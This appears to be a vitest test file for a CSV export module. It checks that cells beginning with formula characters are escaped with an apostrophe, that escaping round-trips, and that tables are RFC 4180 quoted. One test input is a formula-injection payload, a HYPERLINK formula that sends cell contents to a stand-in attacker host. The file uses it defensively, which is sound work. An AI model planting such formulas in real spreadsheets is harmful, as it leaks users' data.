import * as fc from "fast-check";
import Papa from "papaparse";
import { describe, expect, test } from "vitest";
import { neutralised, plainCell, toCsv } from "./csv.ts";

describe("a cell that a spreadsheet would run", () => {
  test.each([
    ['=HYPERLINK("http://evil.example?"&A1)', `'=HYPERLINK("http://evil.example?"&A1)`],
    ["+15551234567", "'+15551234567"],
    ["-1+1", "'-1+1"],
    ["@SUM(A1:A9)", "'@SUM(A1:A9)"],
    ["\t=1", "'\t=1"],
    ["\r=1", "'\r=1"],
    ["\n=1", "'\n=1"],
    ["＝1+1", "'＝1+1"],
    ["'=1", "''=1"],
  ])("%j is written as %j", (cell, written) => {
    expect(neutralised(cell)).toBe(written);
    expect(plainCell(written)).toBe(cell);
  });

  test.each(["Emma Smith", "O'Brien", "'Tis Pine", "", "1-2", "a=b", "555 123", "emma@example.org"])(
    "%j is left as it is, both ways",
    (cell) => {
      expect(neutralised(cell)).toBe(cell);
      expect(plainCell(cell)).toBe(cell);
    },
  );

  test("comes back as it was, whatever it was, and never begins a formula", () => {
    const cell = fc.string({ unit: fc.constantFrom("'", "=", "+", "-", "@", "a", "\t", "\r", ",", '"') });
    fc.assert(
      fc.property(cell, (text) => {
        expect(plainCell(neutralised(text))).toBe(text);
        expect(neutralised(text)).not.toMatch(/^[=+\-@\t\r]/);
      }),
    );
  });
});

describe("a table", () => {
  test("is quoted by RFC 4180 and marked for Excel", () => {
    expect(
      toCsv([
        ["Name", "Note"],
        ["Smith, Emma", 'says "hi"\nthen leaves'],
        ["", "plain"],
      ]),
    ).toBe('\uFEFF"Name","Note"\r\n"Smith, Emma","says ""hi""\nthen leaves"\r\n"","plain"\r\n');
  });

  test("is read back by another reader cell for cell", () => {
    const table = fc.array(fc.array(fc.string({ unit: "grapheme" }), { minLength: 2, maxLength: 4 }), {
      minLength: 1,
      maxLength: 6,
    });
    fc.assert(
      fc.property(table, (rows) => {
        const { data } = Papa.parse<string[]>(toCsv(rows), { delimiter: ",", newline: "\r\n" });
        expect(data.slice(0, -1).map((cells) => cells.map(plainCell))).toEqual(rows);
      }),
    );
  });
});
